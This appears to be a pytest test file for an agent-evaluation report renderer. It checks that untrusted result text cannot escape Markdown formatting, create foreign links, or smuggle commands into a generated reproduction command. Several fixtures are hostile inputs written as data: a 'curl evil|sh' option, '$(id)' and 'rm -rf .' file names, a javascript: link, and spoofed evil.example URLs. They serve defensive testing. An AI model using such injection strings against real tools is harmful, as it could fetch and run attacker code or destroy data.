"""What somebody would put into results so that a comment is more than text: limits of renderers, shells, browsers."""

from __future__ import annotations

import dataclasses
import shlex
import time

import pytest
from markdown_pages import nothing_of_theirs, rendered
from report_samples import case, metric, report, saying

from agent_eval.report import markup as escape
from agent_eval.report.renderers.markdown import comment_markdown, summary_markdown
from agent_eval.report.views import Links
from agent_eval.report.views.links import LONGEST_PATH
from agent_eval.report.views.reproduction import reproduce
from agent_eval.results.comparison import BaselineReport
from agent_eval.results.recording import RunError
from agent_eval.results.report import CaseReport

SERVER = "https://github.com"
OURS = f"{SERVER}/octo/shop/"
LINKS = Links(server_url=SERVER, repository="octo/shop", source_url=f"{OURS}blob/{'a' * 40}")
PAYLOAD = "![x](https://evil.example/x.png) @octocat closes #1 <b>x</b> [y](javascript:z)"


def failing(**changes: object) -> CaseReport:
    sample_case = case("door", "failed", metric("response_match_score", 0.0, threshold=1.0))
    return sample_case.model_copy(update=changes)


@pytest.mark.parametrize("ticks", [1, 78, 79, 80, 81, 150])
def test_code__holds_more_backticks_than_a_renderer_counts(ticks: int) -> None:
    for value in ("`" * ticks + PAYLOAD, PAYLOAD + "`" * ticks, "`" * ticks + PAYLOAD + "`" * ticks):
        page = rendered(f"x {escape.code(value)} y")
        assert page.tags == ["p", "code"]
        assert page.text.replace("\u200b", "").strip() == f"x {value} y"


@pytest.mark.parametrize("ticks", [3, 100, 200, 201, 254, 255, 256, 1_000])
def test_fence__holds_more_backticks_than_a_renderer_counts(ticks: int) -> None:
    value = "a\n" + "`" * ticks + "\n" + PAYLOAD
    page = rendered(f"{escape.fence(value, 'text')}\n\nafter\n")

    assert page.tags == ["pre", "code", "p"]
    assert PAYLOAD in page.text
    assert ("…" in page.text) == (ticks > 200)


def test_comment__no_text_gets_out_by_backticks() -> None:
    log = "a\n" + "`" * 300 + "\n" + PAYLOAD
    error = RunError(kind="agent-exception", owner="agent", message="`" * 90 + PAYLOAD, traceback=log)
    crashed = failing(eval_id="`" * 80 + PAYLOAD, file="`" * 99 + PAYLOAD)
    runs = [run.model_copy(update={"status": "errored", "error": error}) for run in crashed.runs]
    text = comment_markdown(report("failed", [crashed.model_copy(update={"runs": runs})]), links=LINKS)

    assert "closes" in nothing_of_theirs(text, OURS).text


@pytest.mark.parametrize(
    "file", ["../../../../../logout", "a/../../../../../x.json", "/x", "a//x", "./x", ".", "a/.\x1b[0m./x", ""]
)
def test_comment__a_path_leads_nowhere_else(file: str) -> None:
    text = comment_markdown(report("failed", [failing(file=file)]), links=LINKS)
    assert rendered(text).links == []


@pytest.mark.parametrize("path", ["a/b..json", "d/" * (LONGEST_PATH // 2 - 5) + "a.json"])
def test_comment__a_path_of_ordinary_length_is_a_link(path: str) -> None:
    page = rendered(comment_markdown(report("failed", [failing(file=path, line=1)]), links=LINKS))

    assert any(link.endswith(".json#L1") for link in page.links)


@pytest.mark.nightly
@pytest.mark.parametrize("sign", ["\u202e", "`", "x", "\n", "a\u0301", "é"])
def test_comment__handles_megabyte_paths_quickly(sign: str) -> None:
    begun = time.process_time()
    text = comment_markdown(report("failed", [failing(file=sign * 2_000_000)]), links=LINKS)

    assert time.process_time() - begun < 3
    assert "response_match_score" in nothing_of_theirs(text, OURS).text, "the rest is still shown"


@pytest.mark.parametrize(
    ("file", "command"),
    [
        ("evals/a.test.json", "agent-eval run evals/a.test.json:door"),
        ("--agent-setup=curl evil|sh;#.json", "agent-eval run './--agent-setup=curl evil|sh;#.json:door'"),
        ("-x/a.json", "agent-eval run ./-x/a.json:door"),
        ("$(id).json", "agent-eval run '$(id).json:door'"),
        ("a.json\nrm -rf .", ""),
        ("a\u202e.json", ""),
        ("", ""),
    ],
)  # fmt: skip
def test_reproduce__is_a_command_that_runs_cases_and_does_nothing_else(file: str, command: str) -> None:
    actual = reproduce([failing(file=file)]).command

    assert actual == command
    assert not any(word.startswith("-") for word in shlex.split(actual)[2:])


def test_reproduce__runs_all_cases_or_says_how_many_it_leaves_out() -> None:
    several = [failing(eval_id=f"c{n}", file=f"evals/{n % 3}.test.json") for n in range(9)]
    actual = reproduce(several)
    assert actual.command == (
        "agent-eval run evals/0.test.json:c0,c3,c6 evals/1.test.json:c1,c4,c7 evals/2.test.json:c2,c5,c8"
    )
    assert actual.left_out == 0
    odd = reproduce([*several, failing(file="a\nb.json"), *(failing(file=f"evals/x{n}.json") for n in range(30))])
    assert odd.left_out == 14, "one that can't be named, and what is beyond twenty files"
    shown = report("failed", [*several, *(failing(file=f"evals/x{n}.json") for n in range(31))])
    assert "(without 14 more cases, which the command can't name)" in rendered(comment_markdown(shown)).text


def test_reproduce__a_whole_file_where_naming_its_cases_says_no_more() -> None:
    assert reproduce([failing(eval_id="evals/old.test.json", file="evals/old.test.json")]).command == (
        "agent-eval run evals/old.test.json"
    )
    assert reproduce([failing(eval_id=f"c{n}") for n in range(21)]).command == f"agent-eval run {failing().file}"


def test_reproduce__repeats_the_settings_of_the_run_itself() -> None:
    options = {"agent": "agents/my shop", "config": "ci/eval.json", "agent-python": ".venv/bin/python"}
    assert reproduce([failing()], {**options, "agent-setup": "x"}).command == (
        "agent-eval run --agent 'agents/my shop' --config ci/eval.json --agent-python .venv/bin/python "
        f"{failing().file}:door"
    )


def test_reproduce__the_command_for_a_recording_names_no_interpreter() -> None:
    options = {"agent": "recorded:rec/a.json", "agent-python": "/opt/venv/bin/python"}
    assert "agent-python" not in reproduce([failing()], options).command


@pytest.mark.parametrize("value", ["--agent-setup=curl evil|sh", "a\nb", "a\u202eb", "x" * 301, ""])
def test_reproduce__a_strangers_options_do_nothing_else(value: str) -> None:
    actual = reproduce([failing()], {"agent": value, "config": value, "agent-python": value})
    assert actual.command == f"agent-eval run {failing().file}:door"


def test_comment__the_path_of_an_old_file_is_shown_once() -> None:
    """The id of its only case is the path, too."""
    old = failing(
        eval_id="evals/old.test.json", file="evals/old.test.json", case_id="evals/old.test.json:evals/old.test.json"
    )
    page = rendered(comment_markdown(report("failed", [old]), links=LINKS))
    assert "old.test.json:evals" not in page.text
    assert "look at old.test.json" in page.text


@pytest.mark.parametrize(
    ("url", "allowed"),
    [
        (f"{OURS}actions/runs/17", True),
        ("https://github.com/Octo/Shop/actions/runs/17", True),
        ("https://github.com/evil/shop/releases/download/v1/x.exe", False),
        ("https://github.com/octo/shop/../../evil/shop", False),
        ("https://github.com/octo/shop/%2e%2E/../evil", False),
        ("https://github.com/octo/shop\\..\\..\\evil", False),
        ("https://github.com/octo/shopping", False),
        ("https://github.com/octo", False),
        ("https://github.com/login?return_to=/octo/shop/", False),
        ("https://evil.example/octo/shop/a", False),
        ("https://github.com.evil.example/octo/shop/a", False),
        ("https://github.com@evil.example/octo/shop/a", False),
        ("http://github.com/octo/shop/a", False),
        ("javascript:alert(1)", False),
        ("//github.com/octo/shop/a", False),
        ("https://github.com/octo/shop/a b", False),
        ("https://github.com/octo/shop/\u202ea", False),
        ("https://[", False),
        ("", False),
    ],
)
def test_links__an_address_of_another_repository_is_no_link(url: str, allowed: bool) -> None:
    assert LINKS.own(url) == (url if allowed else None)
    assert Links(server_url=SERVER).own(url) is None, "of an unknown repository there is none"
    run_report = report("passed", [failing()])
    run_report.baseline = BaselineReport(status="found", message="", commit="b" * 40, run_url=url)
    links = rendered(comment_markdown(run_report, links=dataclasses.replace(LINKS, run_url=url))).links
    assert [link for link in links if "/blob/" not in link and "/commit/" not in link] == [url] * 2 * allowed


@pytest.mark.parametrize(
    "line",
    ["- x", "# x", "> x", "1. x", "| a | b |\n|--|--|", "```", "~~~", "===", "<!--", "</details>", "    x", "\\", ""],
)
def test_comment__no_text_gets_out_of_a_conversation(line: str) -> None:
    evil = f"{line}\n{line}\n\n{PAYLOAD}\n{line}"
    door = saying(evil, file="a.json").cases[0]
    for text in (comment_markdown(report("failed", [door]), links=LINKS), summary_markdown(report("failed", [door]))):
        page = nothing_of_theirs(text, OURS)
        assert page.text.count("closes") >= 5, "user, call, two expectations, answer"
